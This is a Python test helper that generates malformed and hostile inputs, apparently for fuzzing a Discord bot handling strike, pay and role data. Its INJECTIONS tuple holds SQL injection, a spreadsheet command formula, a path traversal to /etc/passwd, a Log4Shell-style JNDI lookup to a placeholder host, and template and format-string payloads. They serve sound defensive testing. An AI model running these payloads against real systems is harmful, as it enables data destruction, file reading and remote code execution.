"""What is typed by people who mistype, try things out, or mean harm; and ids that no bot made."""

import random

INJECTIONS = (
    "'; DROP TABLE roles; --",
    "' OR '1'='1",
    'NEAR(pay strike, 5) * ^ title: "b" AND OR NOT (',
    "```py\nimport os``` **b** [x](http://x.example) ||spoiler||",
    "@everyone @here <@1> <@&1> <#1> </pay:1> <t:1:R>",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "${jndi:ldap://x.example/a} {{7*7}} %s%n",
    "\u202e\u2066 \u05d0\u05d1\u05d2 \u200f",
    "a\n\n# b\r\n> c\x00\x07\x1b[31m",
    "💰👩\u200d👩\u200d👧 a" + "\u0301" * 300,
    "\\\\ \\` \" ' ’ “",
)
LONG = (
    "x" * 4000,
    "wordy " * 660,
    "$9," * 1333,
    "strike 2023 " * 333,
    "((((" * 1000,
    "1" * 4000,
    "„" * 4000,
)
BLANK = ("", " ", "\n\t", "\u200b", "...", '""')
WRONG_TYPES: tuple[object, ...] = (17, 2.5, True, None, ["a"], {"a": 1})
CUSTOM_IDS = (
    "",
    "x",
    "v:0:zz:a",
    "v:-1:pa:grip",
    "v:0:pa:grip'; DROP TABLE roles",
    "v:0:pa:" + "a" * 25,
    "v:0:pa:no-such-role",
    "v:0:co:grip:grip",
    "t:0:qu::::sideways",
    "s:0:ti::not-a-date",
    "o:0:on:2023-02-30",
    "v:0:be:2024:2023",
    "x:0:st:no-such-strike",
    "v9:0:pa:grip",
    "v:999:ti:wga-2023",
    "t:0:se*",
    "v:0:ch*",
    "r:0:pa:grip",
    "o:0:ci:f-none",
    "x:0:ex:roles.csv:exe",
)
_LETTERS = "abcdefghijklmnopqrstuvwxyz -0123456789"


def mistyped(chance: random.Random, text: str) -> str:
    """A name with a letter too many, too few, another or two in the wrong order."""
    place = chance.randrange(len(text) or 1)
    before, behind = text[:place], text[place:]
    letter = chance.choice(_LETTERS)
    return chance.choice(
        (
            f"{before}{letter}{behind}",
            f"{before}{behind[1:]}",
            f"{before}{letter}{behind[1:]}",
            f"{before}{behind[1:2]}{behind[:1]}{behind[2:]}",
        )
    )


def nonsense(chance: random.Random) -> str:
    return "".join(chance.choices(_LETTERS, k=chance.randint(1, 40)))


def text(chance: random.Random) -> str:
    """Any of them; a long text is rare."""
    part = chance.random()
    if part < 0.4:
        return nonsense(chance)
    if part < 0.8:
        return chance.choice(INJECTIONS)
    return chance.choice(BLANK) if part < 0.95 else chance.choice(LONG)
